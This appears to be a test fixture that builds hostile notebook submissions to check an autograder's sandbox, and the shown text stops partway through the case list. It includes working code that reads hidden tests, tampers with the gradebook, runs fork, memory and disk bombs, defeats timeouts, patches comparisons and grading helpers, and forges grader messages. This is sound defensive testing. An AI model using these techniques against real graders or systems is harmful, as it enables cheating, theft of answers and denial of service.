@@ -1,0 +1,1098 @@
+"""Hostile week 1 submissions for ``mmlcalc-grade`` (issue 8): the threat model, as notebooks.
+
+A learner's notebook is code that runs on the instructor's machine while it is
+graded. Each submission here is the correct week 1 work (the master's answers,
+from ``grading_fixtures.correct``) plus one attack. Wherever it can, the attack
+**proves itself in the score**: one answer is wrong unless the attack worked
+(it read the secret, reached the network, wrote the file...), so "exactly that
+test cell lost its points" shows the attack failed, and full marks would show it
+succeeded. Attack cells also end by raising an error that says what they managed:
+the first line of an error reaches the learner's feedback, which is both an
+attempt to leak through it and a record of what happened.
+
+The cases (``CASE_NAMES``), and what grading under ``--isolation sandbox`` must give:
+
+1. ``read_source``: reads the master in the ``--source`` folder (whose hidden tests
+   carry ``Targets.source_marker``), the cached reference values in ``--cache`` and
+   the repository's own ``source/``; prints them, raises them, returns them as an
+   answer. Graded; the answer that needs them is wrong; no secret in the feedback.
+2. ``read_other_learner``: copies another learner's answer from that learner's
+   notebook (absolute path in the submissions folder, other notebooks' working
+   folders, other processes' folders). Graded; its own (wrong) answer counts.
+3. ``write_gradebook``: gives itself full marks in the nbgrader gradebook (SQLite,
+   a manual score overrides the automatic one), writes a file beside the masters
+   and poisons the cached reference values. Graded; nothing changed.
+4. ``network``: connects to a TCP listener on the host's 127.0.0.1 and to an
+   abstract Unix socket of the host. Graded; nothing connected.
+5. ``memory_bomb``: asks for a 20 GiB array (MemoryError at the address-space limit);
+   the answer that needs the array fails.
+6. ``memory_bomb_processes``: 8 processes, each touching up to 900 MB (each under
+   the per-process limit, together over the limit of the submission). Crashed,
+   with a note naming memory; the tests before it keep their points.
+7. ``fork_bomb``: starts processes until the system refuses (at most 1000), each
+   escaping the process group as a long ``sleep``. Bounded time; graded (only the
+   answer that needs 1000 processes fails) or crashed at the process limit (the
+   tests finished before the kill keep their points); nothing survives the batch.
+8. ``huge_file``: a 10 GB file (OSError at the file-size limit), then 40 files of
+   60 MB in the working folder and /tmp. Crashed at the disk limit, or graded with
+   the cell's error; nothing big left in the host's /tmp.
+9. ``huge_file_in_shm``: 40 files of 60 MB in ``/dev/shm`` (memory, outside the
+   working folder and /tmp). Capped: crashed at a limit, or graded with the cell's
+   error; nothing left in the host's ``/dev/shm``.
+10. ``sleep_forever``: ignores and blocks SIGALRM (the per-cell limit), then sleeps
+    10⁶ s inside a graded function. Timeout at the submission's limit; the tests
+    before it keep their points.
+11. ``always_equal``: an array and a float whose ``==`` is always True (a variant of
+    ``grading_fixtures``' AlwaysEqual). Those cells lost.
+12. ``patched_numpy``: ``numpy.allclose``, ``isclose``, ``array_equal`` and
+    ``numpy.testing`` always pass; a wrong answer. That cell lost.
+13. ``transformers``: IPython input and AST transformers (if a shell exists), and
+    ``builtins.compile`` / ``builtins.exec`` replaced, with every saved reference
+    to them (module globals, tables, functions' defaults and closures, the calling
+    frames), so that the tests are rewritten to call a correct function that is not
+    the learner's answer. That cell lost, all others intact.
+14. ``patched_helpers``: ``mmlcalc.checks``' helpers, the recorder class
+    ``mmlcalc.grading.runner.Recorder`` and the live recorder (record the expected
+    value as the learner's), ``sys.modules`` entries patched, and a ``sys.settrace``
+    function that does the same to any ``expect_close``; a wrong answer. That cell lost.
+15. ``detects_grading``: looks for signs of grading (``NBGRADER_EXECUTION``, the
+    grader's modules, the working folder, the environment, the user id) and then
+    tries 12 to 14; a wrong answer. That cell lost.
+16. ``forged_frames``: writes the grader's own protocol on its pipe: "done" and
+    "end" of its job, then, once the worker has been handed the next learner's
+    notebook, test results for that notebook (all errors, ``SABOTAGE``). It scores
+    0 itself (graded or crashed, whatever the message); no other learner's results
+    may change.
+
+``honest`` is a correct submission in the same batch (and the victim of case 2: its
+answer cell carries ``Targets.other_marker``).
+"""
+
+from __future__ import annotations
+
+import re
+import textwrap
+from collections.abc import Mapping
+from dataclasses import dataclass
+from pathlib import Path
+from string import Template
+
+import nbformat
+from course_harness import (
+    BEGIN_HIDDEN,
+    BEGIN_SOLUTION,
+    END_SOLUTION,
+    cells_by_grade_id,
+    grade_id,
+    is_solution_cell,
+    is_test_cell,
+)
+from grading_fixtures import W1, W1_NAME, correct, master_of, replace_in_answer, with_cell
+
+CASE_NAMES = (
+    "read_source",
+    "read_other_learner",
+    "write_gradebook",
+    "network",
+    "memory_bomb",
+    "memory_bomb_processes",
+    "fork_bomb",
+    "huge_file",
+    "huge_file_in_shm",
+    "sleep_forever",
+    "always_equal",
+    "patched_numpy",
+    "transformers",
+    "patched_helpers",
+    "detects_grading",
+    "forged_frames",
+)
+HONEST = "honest"
+#: The error message forged_frames puts into the test results it sends for someone else.
+SABOTAGE = "SABOTAGED by forged_frames"
+
+#: How many 60 MB files the disk attacks write at most (2.4 GB: far over any disk
+#: limit of a submission, and a safety net when the suite runs without a sandbox).
+FILLER_FILES = 40
+#: How many processes the fork bomb starts at most (same reason).
+MAX_PROCESSES = 1000
+
+
+@dataclass(frozen=True)
+class Targets:
+    """What the attacks aim at on the grading machine, known before the batch runs."""
+
+    source: Path  # the --source folder of the batch (a copy; its hidden tests hold the marker)
+    cache: Path  # the --cache folder (cached reference values)
+    gradebook: Path  # the SQLite file of --gradebook (exists before the batch)
+    other_notebook: Path  # the honest learner's notebook in the submissions folder
+    port: int  # a TCP listener on the host's 127.0.0.1
+    unix_name: str  # an abstract Unix socket listening on the host (without the leading NUL)
+    token: str  # 12 random digits, unique to the run
+
+    @property
+    def source_marker(self) -> str:
+        """Planted in a hidden test of the --source copy: must never reach a learner."""
+        return f"SOURCE-{self.token}"
+
+    @property
+    def other_marker(self) -> str:
+        """Planted in the honest learner's answer: must never reach another learner."""
+        return f"OTHER-{self.token}"
+
+    @property
+    def leftover(self) -> str:
+        """In the name of every file an attack writes outside its working folder."""
+        return f"hostile-{self.token}"
+
+    @property
+    def sleep_argument(self) -> str:
+        """The argument of the fork bomb's ``sleep`` processes (seconds), to find survivors."""
+        return f"120.{self.token}"
+
+
+@dataclass(frozen=True)
+class Outcome:
+    """One acceptable result of grading a submission."""
+
+    status: str  # graded, crashed, timeout
+    lost: Mapping[str, float]  # test cell -> points lost (every other test cell: full marks)
+    keyword: str  # words the learner's feedback page must contain
+
+
+@dataclass(frozen=True)
+class HostileCase:
+    """A submission and the results grading may give it (the expected one first)."""
+
+    student: str
+    threat: str
+    notebook: nbformat.NotebookNode
+    outcomes: tuple[Outcome, ...]
+
+
+# --- the master, its answers and their tests ----------------------------------------------
+
+
+@dataclass(frozen=True)
+class Answer:
+    """An answer cell of week 1, a wrong version of it, and the test cells that check it."""
+
+    cell: str
+    wrong: str  # a statement giving a wrong result (a return, or an assignment for a value)
+    mistake: str  # words of the message a learner gets for that wrong result
+    tests: tuple[str, ...] = ()
+
+
+ANSWERS = {
+    "secant_slope": Answer("w1_secant_slope", "return (f(x0) - f(x1)) / (x1 - x0)", "a sign"),
+    "forward_difference": Answer(
+        "w1_forward_difference", "return (f(x + h) - f(x)) / (2 * h)", "divided by 2h"
+    ),
+    "central_difference": Answer(
+        "w1_central_difference",
+        "return (f(x + h) - f(x - h)) / h",
+        "divided by h instead of 2h",
+    ),
+    "df_sum_power": Answer(
+        "w1_df_sum_power", "return 12 * x**2 - 10 / x**3 + 1 / (2 * np.sqrt(x))", "power rule"
+    ),
+    "df_product": Answer("w1_df_product", "return 2 * x * np.exp(x)", "product rule"),
+    "df_chain": Answer("w1_df_chain", "return np.cos(x**2 + 1)", "inner derivative"),
+    "chain_rule": Answer(
+        "w1_chain_rule",
+        "return lambda x: df_outer(x) * df_inner(x)",
+        "outer derivative at the inner value",
+    ),
+    "best_step": Answer(
+        "w1_best_step",
+        "return float(steps[np.argmax(np.abs("
+        "(f(x + steps) - f(x - steps)) / (2 * steps) - df(x)))])",
+        "LARGEST error",
+    ),
+    "h_central": Answer("w1_h_central", "H_CENTRAL = 1e-10", "outside the sensible range"),
+}
+
+
+def week1_master():
+    """The week 1 master notebook (with its solution and hidden-test markers)."""
+    return master_of(W1)[1]
+
+
+def points_of_tests(master) -> dict[str, float]:
+    """``{test cell: points}`` in master order."""
+    return {
+        grade_id(c): float(c.metadata["nbgrader"]["points"])
+        for c in master.cells
+        if is_test_cell(c)
+    }
+
+
+def answers_with_tests(master) -> dict[str, Answer]:
+    """ANSWERS with their test cells: those between the answer cell and the next one."""
+    tests: dict[str, list[str]] = {}
+    current = None
+    for cell in master.cells:
+        if is_solution_cell(cell) and cell.cell_type == "code":
+            current = grade_id(cell)
+        elif is_test_cell(cell) and current is not None:
+            tests.setdefault(current, []).append(grade_id(cell))
+    return {
+        name: Answer(a.cell, a.wrong, a.mistake, tuple(tests[a.cell]))
+        for name, a in ANSWERS.items()
+    }
+
+
+def code(template: str, **values) -> str:
+    """A cell's source from a template: ``$name`` becomes ``repr(values[name])``."""
+    return Template(textwrap.dedent(template).strip("\n")).substitute(
+        {name: repr(value) for name, value in values.items()}
+    )
+
+
+def _indent_of(source: str, marker: str) -> str:
+    line = next(line for line in source.splitlines() if marker in line)
+    return line[: len(line) - len(line.lstrip())]
+
+
+def before_solution(master, answer: Answer, lines: str):
+    """A copy of ``master`` with ``lines`` at the top of the answer's solution region."""
+    source = cells_by_grade_id(master)[answer.cell].source
+    indent = _indent_of(source, BEGIN_SOLUTION)
+    block = textwrap.indent(textwrap.dedent(lines).strip("\n"), indent)
+    return replace_in_answer(
+        master, answer.cell, BEGIN_SOLUTION, f"{block.lstrip()}\n{indent}{BEGIN_SOLUTION}"
+    )
+
+
+def wrong_unless(master, answer: Answer, condition: str):
+    """The answer is wrong unless ``condition`` (the attack's success) holds when it runs."""
+    if answer.cell == "w1_h_central":  # a value, not a function: overwrite it afterwards
+        return replace_in_answer(
+            master,
+            answer.cell,
+            END_SOLUTION,
+            f"{END_SOLUTION}\nif not ({condition}):  # wrong unless the attack worked\n"
+            f"    {answer.wrong}",
+        )
+    return before_solution(
+        master,
+        answer,
+        f"if not ({condition}):  # wrong unless the attack worked\n    {answer.wrong}",
+    )
+
+
+def wrong(master, answer: Answer):
+    """The learner's own answer is simply wrong."""
+    return before_solution(master, answer, f"{answer.wrong}  # my own (wrong) attempt")
+
+
+def lost(points: Mapping[str, float], *tests: str) -> dict[str, float]:
+    return {test: points[test] for test in tests}
+
+
+def lost_from(points: Mapping[str, float], first: str) -> dict[str, float]:
+    """The test cells from ``first`` on (a process that died there ran none of them)."""
+    names = list(points)
+    return {test: points[test] for test in names[names.index(first) :]}
+
+
+def crashed_at_any_test(points: Mapping[str, float], keyword: str, *also: str) -> list[Outcome]:
+    """Killed while some test ran: the tests before it keep their points, ``also`` lost anyway."""
+    return [
+        Outcome("crashed", {**lost(points, *also), **lost_from(points, first)}, keyword)
+        for first in points
+    ]
+
+
+# --- the attacks ---------------------------------------------------------------------------
+
+READ_SOURCE = r"""
+# HOSTILE (read_source): read the instructor's files by their absolute paths: the
+# master (reference solutions, hidden tests) in the course's source folder, the
+# cached reference values of the grader, the repository's own source/. Then show
+# them: print them, raise an error whose message holds them (an error's first line
+# reaches the feedback), and return them as an answer (df_chain below).
+import glob
+import pathlib
+
+import mmlcalc
+
+instructor_files = [
+    $master,
+    *sorted(glob.glob($cached)),
+    str(pathlib.Path(mmlcalc.__file__).resolve().parents[1] / "source" / "week1" / $name),
+]
+STOLEN = ""
+failures = []
+for path in instructor_files:
+    try:
+        text = pathlib.Path(path).read_text()
+    except OSError as error:
+        failures.append(f"{path}: {type(error).__name__}")
+        continue
+    start = max(text.find("### BEGIN HIDDEN TESTS"), 0)
+    STOLEN += " ".join(text[start : start + 400].split()) + " ... "
+print(STOLEN)
+raise RuntimeError(f"read: {STOLEN}" if STOLEN else "read nothing: " + "; ".join(failures))
+"""
+
+READ_OTHER_LEARNER = r"""
+# HOSTILE (read_other_learner): copy another learner's answer. Their notebook is
+# looked for by its absolute path in the submissions folder, in the working folders
+# of notebooks graded at the same time, and through other processes' folders.
+import glob
+import json
+import os
+
+my_folder = os.path.realpath(os.getcwd())
+notebooks = [
+    $other,
+    *glob.glob("/tmp/mmlcalc-grade-*/*.ipynb"),
+    *glob.glob("/home/*/*.ipynb"),
+    *glob.glob("/proc/[0-9]*/cwd/*.ipynb"),
+]
+COPIED = ""
+failures = []
+for path in notebooks:
+    if os.path.dirname(os.path.realpath(path)) == my_folder:
+        continue  # my own notebook
+    try:
+        with open(path) as file:
+            cells = json.load(file)["cells"]
+    except (OSError, ValueError, KeyError) as error:
+        failures.append(f"{path}: {type(error).__name__}")
+        continue
+    for cell in cells:
+        source = "".join(cell.get("source", ""))
+        if "def forward_difference" in source and "NotImplementedError" not in source:
+            COPIED = source
+            break
+    if COPIED:
+        break
+if COPIED:
+    exec(COPIED)  # their forward_difference replaces my wrong one
+    raise RuntimeError("copied: " + " ".join(COPIED.split()))
+raise RuntimeError("found no other notebook: " + "; ".join(failures))
+"""
+
+WRITE_GRADEBOOK = r"""
+# HOSTILE (write_gradebook): give myself full marks in the instructor's gradebook
+# (nbgrader's SQLite file: a manual score overrides the automatic one, so a later
+# grading run does not undo it), leave a file beside the course's masters, and
+# poison the grader's cached reference values for the next run.
+import glob
+import json
+import pathlib
+import sqlite3
+
+TAMPERED = []
+failures = []
+try:
+    with sqlite3.connect(f"file:{$gradebook}?mode=rw", uri=True, timeout=2) as gradebook:
+        changed = gradebook.execute(
+            "UPDATE grade SET manual_score = "
+            "(SELECT max_score FROM grade_cells WHERE grade_cells.id = grade.cell_id) "
+            "WHERE notebook_id IN (SELECT submitted_notebook.id FROM submitted_notebook "
+            "JOIN submitted_assignment "
+            "ON submitted_notebook.assignment_id = submitted_assignment.id "
+            "WHERE submitted_assignment.student_id = ?)",
+            ($me,),
+        ).rowcount
+    if changed:
+        TAMPERED.append(f"gradebook ({changed} scores)")
+    else:
+        failures.append("gradebook: no row changed")
+except sqlite3.Error as error:
+    failures.append(f"gradebook: {type(error).__name__}: {error}")
+poison = json.dumps([{"records": [], "error": None, "poisoned_by": $leftover}])
+writes = [($beside_source, "the answers, for everyone"), ($new_cache_file, poison)]
+writes += [(path, poison) for path in sorted(glob.glob($cached))]
+for path, text in writes:
+    try:
+        pathlib.Path(path).write_text(text)
+        TAMPERED.append(path)
+    except OSError as error:
+        failures.append(f"{path}: {type(error).__name__}")
+raise RuntimeError(f"tampered with {TAMPERED}; failed: {failures}")
+"""
+
+NETWORK = r"""
+# HOSTILE (network): send my answers out (or fetch someone else's) over the network:
+# a TCP server on the grading machine's own loopback, and a Unix socket in the
+# abstract namespace (no file needed, only the same network namespace).
+import socket
+
+CONNECTED = []
+failures = []
+for family, address in [
+    (socket.AF_INET, ("127.0.0.1", $port)),
+    (socket.AF_UNIX, "\0" + $unix_name),
+]:
+    try:
+        with socket.socket(family, socket.SOCK_STREAM) as connection:
+            connection.settimeout(3)
+            connection.connect(address)
+            connection.sendall(b"a learner's notebook was here\n")
+        CONNECTED.append(repr(address))
+    except OSError as error:
+        failures.append(f"{address!r}: {type(error).__name__}: {error}")
+raise RuntimeError(f"connected to {CONNECTED}; failed: {failures}")
+"""
+
+MEMORY_BOMB = r"""
+# HOSTILE (memory_bomb): 20 GiB in one array; np.ones writes every page of it.
+HOARD = np.ones(20 * 2**30 // 8)
+"""
+
+MEMORY_BOMB_PROCESSES = r"""
+def touch_memory_in_processes(count=8, megabytes=900):
+    # HOSTILE (memory_bomb_processes): `count` processes each touch up to `megabytes`
+    # MB and hold it for a second: each stays under the memory limit of one process,
+    # together they are far over any memory limit of a submission. Returns the MB
+    # touched by all of them.
+    import os
+    import time
+
+    children = []
+    for _ in range(count):
+        reader, writer = os.pipe()
+        pid = os.fork()
+        if pid == 0:
+            touched, held = 0, []
+            try:
+                while touched < megabytes:
+                    held.append(np.ones(50 * 2**20 // 8))  # 50 MB, every page written
+                    touched += 50
+            except MemoryError:
+                pass
+            os.write(writer, str(touched).encode())
+            time.sleep(1)  # hold it while the others touch theirs
+            os._exit(0)
+        os.close(writer)
+        children.append((pid, reader))
+    total = 0
+    for pid, reader in children:
+        total += int(os.read(reader, 16) or 0)
+        os.close(reader)
+        os.waitpid(pid, 0)
+    return total
+
+
+MEMORY_TOUCHED = None
+
+
+"""
+
+FORK_BOMB = r"""
+# HOSTILE (fork_bomb): start processes until the system refuses (at most $most, a
+# safety net for a machine without a sandbox). Each one leaves the process group
+# with setsid(), so that killing that group misses it, and lives on as `sleep`.
+import os
+
+SPAWNED = 0
+for _ in range($most):
+    try:
+        child = os.fork()
+    except OSError:  # EAGAIN: the limit on processes
+        break
+    if child == 0:
+        try:
+            os.setsid()
+            os.execv("/bin/sleep", ["sleep", $seconds])
+        finally:
+            os._exit(0)
+    SPAWNED += 1
+raise RuntimeError(f"started {SPAWNED} processes")
+"""
+
+HUGE_FILE = r"""
+# HOSTILE (huge_file): fill the disk. First one file of 10 GB, then files of 60 MB
+# each (under the limit on the size of one file) in the working folder and in /tmp,
+# $files of them at most (2.4 GB, a safety net for a machine without a sandbox).
+import os
+
+WRITTEN_MB = 0
+block = b"x" * 2**20
+failures = []
+try:
+    with open("huge.bin", "wb") as file:
+        for _ in range(10 * 1024):
+            file.write(block)
+            WRITTEN_MB += 1
+except OSError as error:
+    failures.append(f"huge.bin stopped after {WRITTEN_MB} MB: {type(error).__name__}: {error}")
+folders = [".", $tmp_folder]
+try:
+    for index in range($files):
+        folder = folders[index % 2]
+        os.makedirs(folder, exist_ok=True)
+        with open(os.path.join(folder, f"filler-{index}.bin"), "wb") as file:
+            for _ in range(60):
+                file.write(block)
+                WRITTEN_MB += 1
+except OSError as error:
+    failures.append(f"a 60 MB file failed: {type(error).__name__}: {error}")
+raise RuntimeError(f"wrote {WRITTEN_MB} MB; {failures}")
+"""
+
+HUGE_FILE_IN_SHM = r"""
+# HOSTILE (huge_file_in_shm): the same in /dev/shm, a file system in memory that is
+# neither the working folder nor /tmp.
+SHM_MB = 0
+block = b"x" * 2**20
+failures = []
+try:
+    for index in range($files):
+        with open(f"/dev/shm/{$leftover}-{index}", "wb") as file:
+            for _ in range(60):
+                file.write(block)
+                SHM_MB += 1
+except OSError as error:
+    failures.append(f"{type(error).__name__}: {error}")
+raise RuntimeError(f"wrote {SHM_MB} MB in /dev/shm; {failures}")
+"""
+
+SLEEP_FOREVER = r"""
+# HOSTILE (sleep_forever): switch off the per-cell time limit (a SIGALRM: ignore
+# it, block it, cancel the timer) and sleep for 11 days inside a graded function.
+import signal
+import time
+
+signal.signal(signal.SIGALRM, signal.SIG_IGN)
+signal.pthread_sigmask(signal.SIG_BLOCK, {signal.SIGALRM, signal.SIGTERM, signal.SIGINT})
+signal.setitimer(signal.ITIMER_REAL, 0)
+time.sleep(10**6)
+"""
+
+ALWAYS_EQUAL_ARRAY = r"""
+class AlwaysEqualArray(np.ndarray):
+    # HOSTILE (always_equal): an array that says it equals anything, and whose
+    # difference from anything is 0 (==, !=, got - expected, abs, <=).
+    def __eq__(self, other):
+        return np.ones(self.shape, dtype=bool)
+
+    def __ne__(self, other):
+        return np.zeros(self.shape, dtype=bool)
+
+    def __sub__(self, other):
+        return np.zeros(self.shape)
+
+    __rsub__ = __sub__
+    __hash__ = None
+
+
+"""
+
+ALWAYS_EQUAL_FLOAT = r"""
+class AlwaysEqualFloat(float):
+    # HOSTILE (always_equal): a float that says it equals anything.
+    def __eq__(self, other):
+        return True
+
+    def __ne__(self, other):
+        return False
+
+    def __sub__(self, other):
+        return 0.0
+
+    __rsub__ = __sub__
+    __hash__ = float.__hash__
+
+
+"""
+
+PATCH_NUMPY = r"""
+# HOSTILE (patched_numpy): make NumPy's comparisons and testing functions always pass.
+import numpy
+import numpy.testing
+
+
+def always_true(*args, **kwargs):
+    return True
+
+
+def never_raises(*args, **kwargs):
+    return None
+
+
+def all_close(a, b, *args, **kwargs):
+    return numpy.ones(numpy.broadcast(numpy.asarray(a), numpy.asarray(b)).shape, dtype=bool)
+
+
+numpy.allclose = numpy.array_equal = numpy.array_equiv = always_true
+numpy.isclose = all_close
+numpy.testing.assert_allclose = numpy.testing.assert_array_equal = never_raises
+numpy.testing.assert_almost_equal = numpy.testing.assert_array_almost_equal = never_raises
+numpy.core.numeric.allclose = numpy.core.numeric.array_equal = always_true
+numpy.core.numeric.isclose = all_close
+"""
+
+TRANSFORMERS = r"""
+# HOSTILE (transformers): rewrite every piece of code that runs after this cell, the
+# tests included, so that they call a correct $function that is not my answer:
+# IPython's input and AST transformers (if there is a shell), and compile and exec
+# replaced in builtins and wherever a module keeps its own reference to them.
+import ast
+import builtins
+import re
+import sys
+import types
+
+
+def honest_$function$signature
+
+
+def rewrite(source):
+    return re.sub(r"\b$function\b", "honest_$function", source)
+
+
+def renamed(code):
+    names = tuple("honest_$function" if n == "$function" else n for n in code.co_names)
+    consts = tuple(renamed(c) if isinstance(c, types.CodeType) else c for c in code.co_consts)
+    return code.replace(co_names=names, co_consts=consts)
+
+
+class Rename(ast.NodeTransformer):
+    def visit_Name(self, node):
+        if node.id == "$function":
+            node.id = "honest_$function"
+        return node
+
+
+shell = globals().get("get_ipython", lambda: None)()
+if shell is not None:
+    shell.input_transformers_cleanup.append(lambda lines: [rewrite(line) for line in lines])
+    shell.ast_transformers.append(Rename())
+
+real_compile, real_exec = builtins.compile, builtins.exec
+
+
+def forged_compile(source, *args, **kwargs):
+    if isinstance(source, str):
+        source = rewrite(source)
+    elif isinstance(source, ast.AST):
+        source = Rename().visit(source)
+    return real_compile(source, *args, **kwargs)
+
+
+def forged_exec(code, *args, **kwargs):
+    if isinstance(code, str):
+        code = rewrite(code)
+    elif isinstance(code, types.CodeType):
+        code = renamed(code)
+    return real_exec(code, *args, **kwargs)
+
+
+FORGED = {real_compile: forged_compile, real_exec: forged_exec}
+
+
+def forged(value):
+    try:
+        return FORGED.get(value, value)
+    except Exception:  # unhashable, or a hash that raises
+        return value
+
+
+def forge_function(function):
+    # the real compile and exec kept as default values or in closures
+    if function.__defaults__:
+        function.__defaults__ = tuple(forged(v) for v in function.__defaults__)
+    if function.__kwdefaults__:
+        function.__kwdefaults__ = {k: forged(v) for k, v in function.__kwdefaults__.items()}
+    for cell in function.__closure__ or ():
+        try:
+            cell.cell_contents = forged(cell.cell_contents)
+        except ValueError:  # an empty cell
+            pass
+
+
+def forge_value(value):
+    if value is globals():
+        return  # this notebook's own names (real_compile, real_exec) stay real
+    if isinstance(value, dict):  # e.g. a table of the original built-ins
+        for key, item in list(value.items()):
+            if forged(item) is not item:
+                value[key] = forged(item)
+    elif isinstance(value, types.FunctionType):
+        forge_function(value)
+    elif isinstance(value, type):
+        for attribute in list(vars(value).values()):
+            if isinstance(attribute, types.FunctionType):
+                forge_function(attribute)
+
+
+builtins.compile, builtins.exec = forged_compile, forged_exec
+# every reference kept elsewhere: module globals, tables, defaults and closures of the
+# modules' functions, and the locals of the code running this cell (the runner's own)
+for module in list(sys.modules.values()):
+    namespace = getattr(module, "__dict__", None)
+    if not isinstance(namespace, dict) or namespace is globals():
+        continue  # this notebook's own names (real_compile, real_exec) stay real
+    for name, value in list(namespace.items()):
+        try:
+            if forged(value) is not value:
+                setattr(module, name, forged(value))
+            else:
+                forge_value(value)
+        except (AttributeError, TypeError):
+            pass
+frame = sys._getframe(1)
+while frame is not None:
+    for value in list(frame.f_locals.values()):
+        try:
+            forge_value(value)
+        except (AttributeError, TypeError):
+            pass
+    frame = frame.f_back
+"""
+
+PATCH_HELPERS = r"""
+# HOSTILE (patched_helpers): make the grading helpers pass anything. The checks of
+# mmlcalc.checks do nothing; the grader's recorder records the EXPECTED value as my
+# answer (in its class and in the live recorder behind the helpers of this notebook);
+# later imports of mmlcalc.checks get a fake module; and a trace function swaps the
+# values whatever recorder is called.
+import ctypes
+import sys
+import types
+
+import mmlcalc.checks
+import mmlcalc.grading.runner
+
+
+def passes(*args, **kwargs):
+    return None
+
+
+for helper in ("expect", "expect_close", "expect_equal", "expect_array", "expect_number"):
+    setattr(mmlcalc.checks, helper, passes)
+mmlcalc.checks.expect_own_work = lambda function, *args, **kwargs: function(*args)
+
+Recorder = mmlcalc.grading.runner.Recorder
+recorded_close = Recorder.expect_close
+
+
+def close_records_expected(self, got, expected, *args, **kwargs):
+    return recorded_close(self, expected, expected, *args, **kwargs)
+
+
+Recorder.expect_close = close_records_expected
+live_recorder = getattr(globals().get("expect_close"), "__self__", None)
+if live_recorder is not None:
+    live_recorder.expect_close = types.MethodType(close_records_expected, live_recorder)
+
+fake_checks = types.ModuleType("mmlcalc.checks")
+fake_checks.__dict__.update(vars(mmlcalc.checks))
+sys.modules["mmlcalc.checks"] = fake_checks
+
+
+def expected_as_got(frame, event, arg):
+    # a trace function: whatever records a check, its `got` becomes its `expected`
+    code = frame.f_code
+    if event == "call" and code.co_name == "expect_close" and "expected" in code.co_varnames:
+        frame.f_locals["got"] = frame.f_locals["expected"]  # Python 3.13+: writes through
+        locals_to_fast = getattr(ctypes.pythonapi, "PyFrame_LocalsToFast", None)
+        if locals_to_fast is not None:  # up to 3.12: copy the changed locals back
+            locals_to_fast(ctypes.py_object(frame), ctypes.c_int(0))
+
+
+sys.settrace(expected_as_got)
+"""
+
+DETECTS_GRADING = r"""
+# HOSTILE (detects_grading): behave while the learner works; cheat when graded.
+import os
+import sys
+
+signs = {
+    "NBGRADER_EXECUTION": "NBGRADER_EXECUTION" in os.environ,
+    "grader modules": any(name.startswith("mmlcalc.grading") for name in sys.modules),
+    "working folder": not os.getcwd().startswith(os.path.expanduser("~/")) or "grad" in os.getcwd(),
+    "environment": "JPY_PARENT_PID" not in os.environ,
+    "user": os.getuid() in (0, 1000) or os.getuid() != os.stat(os.getcwd()).st_uid,
+}
+GRADING = sorted(name for name, seen in signs.items() if seen)
+if GRADING:
+$cheats
+"""
+
+
+FORGED_FRAMES = r"""
+# HOSTILE (forged_frames): speak the grader's protocol on my own pipe to it: say that
+# my job is done and has ended, so that this worker is handed the next learner's
+# notebook; then send test results for THAT notebook (every test an error).
+import json
+import os
+import sys
+import time
+
+
+def pipes_to_the_grader():
+    frame = sys._getframe()
+    while frame is not None:  # the runner's frames hold its connection to the grader
+        for value in list(frame.f_locals.values()):
+            if hasattr(value, "send_bytes"):
+                yield value
+        frame = frame.f_back
+
+
+def say(message):
+    for pipe in pipes_to_the_grader():
+        pipe.send_bytes(json.dumps(message).encode())
+
+
+say({"m": "done"})
+say({"m": "end", "reason": None, "exit": 0, "signal": None, "clean": True})
+time.sleep(2)  # meanwhile the grader hands this worker the next notebook
+for index in range(64):  # more than the week's test parts
+    say({"m": "chunk", "i": index, "records": [],
+         "error": {"type": "RuntimeError", "message": $sabotage}})
+say({"m": "done"})
+os._exit(0)
+"""
+
+
+def _transformers(function: str, signature_and_body: str) -> str:
+    return (
+        textwrap.dedent(TRANSFORMERS)
+        .strip("\n")
+        .replace("$function", function)
+        .replace("$signature", signature_and_body)
+    )
+
+
+HONEST_SECANT = "(f, x0, x1):\n    return (f(x1) - f(x0)) / (x1 - x0)"
+HONEST_FORWARD = "(f, x, h):\n    return (f(x + h) - f(x)) / h"
+
+
+# --- the cases -------------------------------------------------------------------------------
+
+
+def honest_notebook(master, targets: Targets):
+    """The correct work, with ``other_marker`` in a comment of the forward_difference answer."""
+    notebook = correct(master)
+    cell = cells_by_grade_id(notebook)["w1_forward_difference"]
+    cell.source = f"# my own work ({targets.other_marker}), please do not copy\n" + cell.source
+    return notebook
+
+
+def hostile_cases(targets: Targets) -> list[HostileCase]:
+    """Every hostile submission of ``CASE_NAMES``, aimed at ``targets``, with its outcomes."""
+    master = week1_master()
+    points = points_of_tests(master)
+    answers = answers_with_tests(master)
+    every = dict(points)
+    master_path = targets.source / W1 / W1_NAME
+    cached = str(targets.cache / "*.json")
+    cases: list[HostileCase] = []
+
+    def add(student, threat, notebook, *outcomes):
+        cases.append(HostileCase(student, threat, correct(notebook), tuple(outcomes)))
+
+    def graded_losing(answer, keyword=None):
+        a = answers[answer]
+        return Outcome("graded", lost(points, *a.tests), keyword or a.mistake)
+
+    # 1. read_source
+    nb = with_cell(
+        master,
+        code(READ_SOURCE, master=str(master_path), cached=cached, name=W1_NAME),
+        after="w1_setup",
+    )
+    nb = wrong_unless(nb, answers["secant_slope"], "STOLEN")
+    nb = before_solution(nb, answers["df_chain"], "if STOLEN:\n    return STOLEN  # HOSTILE")
+    add("read_source", "reads the master, the cached reference values and source/",
+        nb, graded_losing("secant_slope"))  # fmt: skip
+
+    # 2. read_other_learner
+    nb = wrong(master, answers["forward_difference"])
+    nb = with_cell(
+        nb,
+        code(READ_OTHER_LEARNER, other=str(targets.other_notebook)),
+        after="w1_forward_difference",
+    )
+    add("read_other_learner", "copies another learner's answer from their notebook",
+        nb, graded_losing("forward_difference"))  # fmt: skip
+
+    # 3. write_gradebook
+    nb = with_cell(
+        master,
+        code(
+            WRITE_GRADEBOOK,
+            gradebook=str(targets.gradebook),
+            me="write_gradebook",
+            leftover=targets.leftover,
+            beside_source=str(targets.source / W1 / f"{targets.leftover}.txt"),
+            new_cache_file=str(targets.cache / f"{targets.leftover}.json"),
+            cached=cached,
+        ),
+        after="w1_setup",
+    )
+    nb = wrong_unless(nb, answers["central_difference"], "TAMPERED")
+    add("write_gradebook", "writes full marks into the gradebook, files beside the source",
+        nb, graded_losing("central_difference"))  # fmt: skip
+
+    # 4. network
+    nb = with_cell(
+        master, code(NETWORK, port=targets.port, unix_name=targets.unix_name), after="w1_setup"
+    )
+    nb = wrong_unless(nb, answers["df_sum_power"], "CONNECTED")
+    add("network", "connects to the host's loopback and to an abstract Unix socket",
+        nb, graded_losing("df_sum_power"))  # fmt: skip
+
+    # 5. memory_bomb: the array is needed by df_product (NameError without it)
+    nb = with_cell(master, code(MEMORY_BOMB), after="w1_setup")
+    nb = before_solution(nb, answers["df_product"], "HOARD[0]  # HOSTILE: needs the 20 GiB")
